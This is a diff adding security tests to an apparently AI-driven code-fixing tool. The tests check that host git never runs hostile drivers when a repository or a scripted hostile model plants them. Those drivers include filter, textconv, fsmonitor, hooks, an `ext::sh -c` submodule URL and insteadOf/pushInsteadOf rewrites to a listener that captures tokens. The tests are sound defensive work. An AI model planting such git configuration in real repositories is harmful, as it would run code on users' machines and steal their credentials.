@@ -69,3 +69,375 @@ __all__ = [
     "tree_digest",
     "write",
 ]
+
+
+# ---- host git (SECURITY 35-36) ----
+# A hostile repository, or a hostile model, configures git every way a tree can; each
+# driver would touch a file in `marker_dir`. Host git (snapshot, local export, apply, the
+# deliver-time `git diff --stat`, clone, commit and push) runs none of them, and the
+# operation still works: the real fix is verified and delivered. Planted URL rewrites point
+# at a git server of the test's own on 127.0.0.1 that demands credentials.
+
+
+def hostgit_config(markers: Path) -> str:
+    """Git configuration that runs a command through every setting that can run one."""
+    return f"""[filter "evil"]
+\tclean = touch {markers}/filter-clean; cat
+\tsmudge = touch {markers}/filter-smudge; cat
+\tprocess = touch {markers}/filter-process
+\trequired = true
+[diff "evil"]
+\ttextconv = touch {markers}/diff-textconv; cat
+\tcommand = touch {markers}/diff-command
+[merge "evil"]
+\tdriver = touch {markers}/merge-driver
+[diff]
+\texternal = touch {markers}/diff-external
+[core]
+\tpager = touch {markers}/core-pager
+\tfsmonitor = touch {markers}/core-fsmonitor
+\thooksPath = {markers}/../hostgit-hooks
+"""
+
+
+def hostgit_hooks(hooks: Path, markers: Path) -> None:
+    hooks.mkdir(parents=True, exist_ok=True)
+    for name in ("pre-commit", "post-commit", "post-checkout", "post-index-change",
+                 "reference-transaction", "pre-push", "pre-auto-gc"):  # fmt: skip
+        write(hooks / name, f"#!/bin/sh\ntouch {markers}/hook-{name}\n").chmod(0o755)
+
+
+def hostgit_repo(example_repo: Any, markers: Path, files: dict[str, str]) -> Path:
+    """The Python example carrying `files` (committed), with hooks ready in the shared
+    hooks directory a planted `core.hooksPath` names and in the repository's own `.git`."""
+    hostgit_hooks(markers.parent / "hostgit-hooks", markers)
+    repo = example_repo("python-invoice", files)
+    hostgit_hooks(repo / ".git" / "hooks", markers)
+    assert list(markers.iterdir()) == []
+    return repo
+
+
+def hostgit_fix(run_cli: Any, scripted: Any, repo: Path, *calls: dict[str, Any],
+                sandbox: str = "docker") -> Any:  # fmt: skip
+    server = scripted(hostile_session(*calls, fix=True))
+    return run_cli("fix", str(repo), "--sandbox", sandbox, env=model_env(server))
+
+
+def hostgit_assert_delivered(run: Any, repo: Path, before: dict[str, str], markers: Path,
+                             *extra_changed: str) -> None:  # fmt: skip
+    """Verified and applied, only the fix (and what the patch itself adds) changed in the
+    working tree, and not one driver or hook ran."""
+    assert sorted(p.name for p in markers.iterdir()) == []
+    assert run.exit_code == 0, run.stderr
+    assert run.result["status"] == "verified", run.result["message"]
+    assert run.result["applied"] is True
+    assert FIX_NEW in (repo / "invoice/totals.py").read_text()
+    after = tree_digest(repo)
+    changed = {k for k in before.keys() | after.keys() if before.get(k) != after.get(k)}
+    assert changed == {"invoice/totals.py", *extra_changed}
+    deliver = [e for e in run.of_type("stage") if e["stage"] == "deliver"][-1]
+    assert deliver["status"] == "applied"
+    assert deliver["files"] and "changed" in deliver["files"][0]
+
+
+@pytest.mark.docker
+def test_repo_gitconfig_filter_clean_smudge_process_never_runs_on_host_security_35(
+    docker_ready: None, example_repo: Any, scripted: Any, run_cli: Any, marker_dir: Path
+) -> None:
+    """SECURITY 35: `.gitconfig` filter drivers selected by `.gitattributes` (the HOME-in-
+    the-tree attack) run neither at snapshot nor at deliver."""
+    repo = hostgit_repo(example_repo, marker_dir, {
+        ".gitconfig": hostgit_config(marker_dir),
+        ".gitattributes": "* filter=evil\n",
+    })  # fmt: skip
+    before = tree_digest(repo)
+    run = hostgit_fix(run_cli, scripted, repo)
+    hostgit_assert_delivered(run, repo, before, marker_dir)
+
+
+@pytest.mark.docker
+def test_repo_xdg_config_textconv_and_external_diff_never_run_at_deliver_security_35(
+    docker_ready: None, example_repo: Any, scripted: Any, run_cli: Any, marker_dir: Path
+) -> None:
+    """SECURITY 35: `.config/git/config` (the XDG location) with diff textconv/command,
+    `diff.external` and a pager; `.gitattributes` selects the diff driver for the file the
+    fix changes, so the deliver-time `git diff --stat` is where it would run."""
+    repo = hostgit_repo(example_repo, marker_dir, {
+        ".config/git/config": hostgit_config(marker_dir),
+        ".gitattributes": "*.py diff=evil merge=evil\n",
+    })  # fmt: skip
+    before = tree_digest(repo)
+    run = hostgit_fix(run_cli, scripted, repo)
+    hostgit_assert_delivered(run, repo, before, marker_dir)
+
+
+@pytest.mark.docker
+def test_repo_include_path_and_includeif_are_never_followed_security_35(
+    docker_ready: None, example_repo: Any, scripted: Any, run_cli: Any, marker_dir: Path
+) -> None:
+    """SECURITY 35: a `.gitconfig` whose `include.path` and `includeIf` pull the drivers
+    from another file of the tree."""
+    repo = hostgit_repo(example_repo, marker_dir, {
+        ".gitconfig": '[include]\n\tpath = tools/git.cfg\n[includeIf "gitdir:/"]\n'
+                      "\tpath = tools/git.cfg\n",
+        "tools/git.cfg": hostgit_config(marker_dir),
+        ".gitattributes": "* filter=evil diff=evil\n",
+    })  # fmt: skip
+    before = tree_digest(repo)
+    run = hostgit_fix(run_cli, scripted, repo)
+    hostgit_assert_delivered(run, repo, before, marker_dir)
+
+
+@pytest.mark.docker
+def test_fsmonitor_pager_and_hooks_in_the_repos_own_git_dir_never_run_security_35(
+    docker_ready: None, example_repo: Any, scripted: Any, run_cli: Any, marker_dir: Path
+) -> None:
+    """SECURITY 35 (CVE-2022-24765 class): `core.fsmonitor`, `core.pager` and
+    `core.hooksPath` in the repository's `.git/config`, hooks in `.git/hooks`; snapshot,
+    apply and `git diff --stat` run in that repository and must run none of them."""
+    repo = hostgit_repo(example_repo, marker_dir, {".gitattributes": "* filter=evil\n"})
+    with (repo / ".git" / "config").open("a") as config:
+        config.write(
+            f"[core]\n\tfsmonitor = touch {marker_dir}/core-fsmonitor\n"
+            f"\tpager = touch {marker_dir}/core-pager\n"
+            f"\thooksPath = {marker_dir.parent}/hostgit-hooks\n"
+        )
+    before = tree_digest(repo)
+    run = hostgit_fix(run_cli, scripted, repo)
+    hostgit_assert_delivered(run, repo, before, marker_dir)
+
+
+@pytest.mark.docker
+def test_repo_gitmodules_with_ext_url_and_update_command_is_never_acted_on_security_35(
+    docker_ready: None, example_repo: Any, scripted: Any, run_cli: Any, marker_dir: Path
+) -> None:
+    """SECURITY 35: `.gitmodules` naming an `ext::` URL and an `update = !command`, a
+    gitlink in the index and an untracked nested repository with its own hostile config."""
+    repo = hostgit_repo(example_repo, marker_dir, {
+        ".gitmodules": '[submodule "vendor/lib"]\n\tpath = vendor/lib\n'
+                       f"\turl = ext::sh -c touch% {marker_dir}/gitmodules-ext\n"
+                       f"\tupdate = !touch {marker_dir}/gitmodules-update\n",
+    })  # fmt: skip
+    from tests.conftest import git
+
+    head = git("rev-parse", "HEAD", cwd=repo).strip()
+    # The test's own git: with the planted hooks off.
+    gitlink = f"160000,{head},vendor/lib"
+    git("-c", "core.hooksPath=/dev/null", "update-index", "--add", "--cacheinfo", gitlink, cwd=repo)
+    nested = repo / "third_party" / "nested"
+    write(nested / "lib.py", "y = 2\n")
+    init_repo(nested)
+    with (nested / ".git" / "config").open("a") as config:
+        config.write(hostgit_config(marker_dir))
+    write(nested / ".gitattributes", "* filter=evil diff=evil\n")
+    hostgit_hooks(nested / ".git" / "hooks", marker_dir)
+    before = tree_digest(repo)
+    run = hostgit_fix(run_cli, scripted, repo)
+    hostgit_assert_delivered(run, repo, before, marker_dir)
+    assert "vendor/lib" not in run.result["patch"] and "third_party" not in run.result["patch"]
+
+
+@pytest.mark.docker
+def test_model_written_gitconfig_attributes_and_nested_repo_never_run_on_host_security_35(
+    docker_ready: None, example_repo: Any, scripted: Any, run_cli: Any, marker_dir: Path
+) -> None:
+    """SECURITY 35: the model writes `.gitconfig`, `.config/git/config` and `.gitattributes`
+    that define and select drivers, and nests repositories (one without commits) in the
+    tree. The patch carries the files as content; applying it and the deliver-time
+    `git diff --stat` run no driver, and nothing of the nested repositories is delivered."""
+    repo = hostgit_repo(example_repo, marker_dir, {})
+    config = hostgit_config(marker_dir)
+    calls = (
+        tool("write_file", path=".gitconfig", content=config),
+        tool("write_file", path=".config/git/config", content=config),
+        tool("write_file", path=".gitattributes", content="* filter=evil diff=evil merge=evil\n"),
+        tool("run_command", command="git init -q vendor/empty && mkdir -p vendor/full && "
+             "cd vendor/full && git init -q && echo x > x.txt && git add x.txt && "
+             "git -c user.name=m -c user.email=m@m commit -qm x"),
+    )  # fmt: skip
+    before = tree_digest(repo)
+    run = hostgit_fix(run_cli, scripted, repo, *calls)
+    hostgit_assert_delivered(
+        run, repo, before, marker_dir, ".gitconfig", ".config/git/config", ".gitattributes"
+    )
+    assert (repo / ".gitconfig").read_text() == config
+    assert "vendor/" not in run.result["patch"] and not (repo / "vendor").exists()
+
+
+def test_model_planted_drivers_in_its_git_dir_never_run_in_local_export_security_35(
+    example_repo: Any, scripted: Any, run_cli: Any, marker_dir: Path
+) -> None:
+    """SECURITY 35, local backend: the patch is exported by host git. The model defines
+    filter, diff and fsmonitor commands in its workspace's `.git/config`, selects them in
+    `.gitattributes`, and nests a repository whose config defines them too; the export
+    reads none of that configuration."""
+    repo = hostgit_repo(example_repo, marker_dir, {})
+    m = marker_dir
+    calls = (
+        tool("run_command", command=f"git config filter.evil.clean 'touch {m}/filter-clean; cat'"
+             f" && git config diff.evil.textconv 'touch {m}/textconv; cat'"
+             f" && git config core.fsmonitor 'touch {m}/fsmonitor'"
+             f" && git config core.hooksPath {m.parent}/hostgit-hooks"),
+        tool("write_file", path=".gitattributes", content="* filter=evil diff=evil\n"),
+        tool("run_command", command="git init -q nested && "
+             f"git -C nested config core.fsmonitor 'touch {m}/nested-fsmonitor' && "
+             "echo y > nested/y.txt"),
+    )  # fmt: skip
+    before = tree_digest(repo)
+    run = hostgit_fix(run_cli, scripted, repo, *calls, sandbox="local")
+    hostgit_assert_delivered(run, repo, before, marker_dir, ".gitattributes")
+    assert "nested" not in run.result["patch"]
+
+
+@pytest.mark.docker
+def test_cli_clone_of_a_hostile_url_runs_no_smudge_and_follows_no_rewrite_security_35_36(
+    docker_ready: None, example_repo: Any, scripted: Any, run_cli: Any, marker_dir: Path,
+    tmp_path: Path,
+) -> None:  # fmt: skip
+    """SECURITY 35/36: `loopwright fix URL` clones on the host. The repository carries a
+    smudge filter and an `insteadOf` that rewrites the server's URL to a listener of the
+    test's own; the clone checks out without running the filter, and the listener is
+    never contacted."""
+    from tests.fakes.git_server import GitServer
+
+    (tmp_path / "srv").mkdir()
+    (tmp_path / "evil").mkdir()
+    with (
+        GitServer(tmp_path / "srv") as server,
+        GitServer(tmp_path / "evil", token="ghs_ATTACKERBAIT000000000000") as attacker,
+    ):
+        config = hostgit_config(marker_dir)
+        config += f'[url "{attacker.url}/"]\n\tinsteadOf = {server.url}/\n'
+        repo = hostgit_repo(example_repo, marker_dir, {
+            ".gitconfig": config, ".config/git/config": config,
+            ".gitattributes": "* filter=evil diff=evil\n",
+        })  # fmt: skip
+        server.create_repo("octo/invoice", repo)
+        model = scripted(hostile_session(fix=True))
+        run = run_cli("fix", server.repo_url("octo/invoice"), "--sandbox", "docker",
+                      env=model_env(model))  # fmt: skip
+        assert sorted(p.name for p in marker_dir.iterdir()) == []
+        assert attacker.requests == []
+        assert run.exit_code == 0, run.stderr
+        assert run.result["status"] == "verified" and run.result["applied"] is False
+        assert FIX_NEW.strip() in run.result["patch"]
+        assert server.requests and server.requests[0]["path"] == "/octo/invoice.git/info/refs"
+
+
+def hostgit_served(repo: Path, tmp_path: Path, token: str) -> Any:
+    from tests.fakes.git_server import GitServer
+
+    (tmp_path / "srv").mkdir()
+    (tmp_path / "evil").mkdir()
+    server = GitServer(tmp_path / "srv", token=token)
+    attacker = GitServer(tmp_path / "evil", token="ghs_ATTACKERBAIT000000000000")
+    server.create_repo("octo/app", repo)
+    attacker.create_repo("octo/app", repo)
+    return server, attacker
+
+
+def test_app_delivery_ignores_tree_pushinsteadof_and_refuses_a_planted_one_security_36(
+    example_repo: Any, marker_dir: Path, tmp_path: Path
+) -> None:
+    """SECURITY 35/36, the App's delivery (clone_at, commit_patch, push_branch): a
+    `pushInsteadOf` and `insteadOf` in the repository's `.gitconfig` never redirect the push,
+    drivers in it never run; the same rewrite planted in the clone's own `.git/config` is
+    refused before any request. The attacker's listener never sees a token."""
+    import base64
+
+    from loopwright.github.gitops import GitError, clone_at, commit_patch, push_branch
+    from tests.conftest import git
+
+    token = "ghs_APPTOKEN0123456789abcdefghij"
+    repo = hostgit_repo(example_repo, marker_dir, {".gitattributes": "* filter=evil diff=evil\n"})
+    server, attacker = hostgit_served(repo, tmp_path, token)
+    with server, attacker:
+        config = hostgit_config(marker_dir) + (
+            f'[url "{attacker.url}/"]\n\tpushInsteadOf = {server.url}/\n'
+            f'[url "{attacker.url}/octo/"]\n\tinsteadOf = {server.url}/octo/\n'
+        )
+        write(repo / ".gitconfig", config)
+        git("-c", "core.hooksPath=/dev/null", "add", "-A", cwd=repo)
+        git("-c", "core.hooksPath=/dev/null", "commit", "-qm", "rewrites", cwd=repo)
+        bare = server.root / "octo/app.git"
+        git("-c", "core.hooksPath=/dev/null", "push", "-q", str(bare), "HEAD:refs/heads/main",
+            cwd=repo)  # fmt: skip
+        sha = git("rev-parse", "HEAD", cwd=repo).strip()
+        url = server.repo_url("octo/app")
+        totals = repo / "invoice/totals.py"
+        original = totals.read_text()
+        totals.write_text(original.replace(FIX_OLD, FIX_NEW))
+        patch = git("diff", "--no-ext-diff", "--", "invoice/totals.py", cwd=repo)
+        totals.write_text(original)
+        tree = clone_at(url, sha, tmp_path / "clone", token)
+        commit = commit_patch(tree, patch, "Fix discount", "m1")
+        push_branch(tree, "loopwright/fix-1", token, replace=None, url=url)
+        assert git("rev-parse", "loopwright/fix-1", cwd=bare).strip() == commit
+        expected = "Basic " + base64.b64encode(f"x-access-token:{token}".encode()).decode()
+        assert {r["authorization"] for r in server.requests} - {""} == {expected}
+
+        second = clone_at(url, sha, tmp_path / "second", token)
+        commit_patch(second, patch, "Fix discount", "m2")
+        with (second / ".git" / "config").open("a") as planted:
+            planted.write(f'[url "{attacker.url}/"]\n\tpushInsteadOf = {server.url}/\n')
+        with pytest.raises(GitError, match=r"sets url\..*pushinsteadof in \.git/config") as err:
+            push_branch(second, "loopwright/fix-2", token, replace=None, url=url)
+        assert token not in str(err.value)
+        assert attacker.requests == []
+        assert sorted(p.name for p in marker_dir.iterdir()) == []
+
+
+from tests.integration.test_action import REPO as HOSTGIT_ACTION_REPO  # noqa: E402
+from tests.integration.test_action import example as hostgit_action_example  # noqa: E402
+from tests.integration.test_action import world  # noqa: E402, F401
+
+
+def test_action_commit_path_from_a_hostile_workspace_runs_nothing_sends_no_token_security_35_36(
+    world: Any,  # noqa: F811 - the Action's world fixture, imported above
+    marker_dir: Path,
+) -> None:
+    """SECURITY 35/36, Action mode (`deliver: commit`): the checked-out workspace carries
+    drivers and an `insteadOf`/`pushInsteadOf` to a listener of the test's own in its
+    `.gitconfig`, and fsmonitor plus hooks in its own `.git`. The snapshot of the workspace,
+    the delivery clone, the commit and the push run none of them; the fix lands on the
+    branch and the listener never hears from git."""
+    from tests.conftest import git
+    from tests.fakes.git_server import GitServer
+
+    (world.tmp / "evil").mkdir()
+    with GitServer(world.tmp / "evil", token="ghs_ATTACKERBAIT000000000000") as attacker:
+        workspace = world.tmp / "checkout"
+        git("clone", "-q", "-b", "feature", world.git.repo_url(HOSTGIT_ACTION_REPO),
+            str(workspace), cwd=world.tmp)  # fmt: skip
+        attacker.create_repo(HOSTGIT_ACTION_REPO, workspace)
+        config = hostgit_config(marker_dir) + (
+            f'[url "{attacker.url}/"]\n\tinsteadOf = {world.git.url}/\n'
+            f'[url "{attacker.url}/acme/"]\n\tpushInsteadOf = {world.git.url}/acme/\n'
+        )
+        write(workspace / ".gitconfig", config)
+        write(workspace / ".config/git/config", config)
+        write(workspace / ".gitattributes", "* filter=evil diff=evil merge=evil\n")
+        git("add", "-A", cwd=workspace)
+        git("commit", "-qm", "hostile git configuration", cwd=workspace)
+        git("push", "-q", "origin", "feature", cwd=workspace)
+        sha = git("rev-parse", "HEAD", cwd=workspace).strip()
+        hostgit_hooks(marker_dir.parent / "hostgit-hooks", marker_dir)
+        hostgit_hooks(workspace / ".git" / "hooks", marker_dir)
+        with (workspace / ".git" / "config").open("a") as own:
+            own.write(f"[core]\n\tfsmonitor = touch {marker_dir}/core-fsmonitor\n")
+        attacker.requests.clear()
+
+        run = world.run(
+            "workflow_dispatch",
+            world.repository(hostgit_action_example("workflow_dispatch", None)),
+            workspace=workspace,
+            sha=sha,
+            ref="refs/heads/feature",
+            inputs={"INPUT_DELIVER": "commit", "INPUT_TEST_COMMAND": "python -m pytest -q"},
+        )
+        assert sorted(p.name for p in marker_dir.iterdir()) == []
+        assert attacker.requests == []
+        assert run.exit_code == 0, run.stderr
+        assert run.outputs["status"] == "verified"
+        pushed = git("show", "feature", "--format=%ae%n%P", cwd=world.bare)
+        assert FIX_NEW.strip() in pushed and sha in pushed
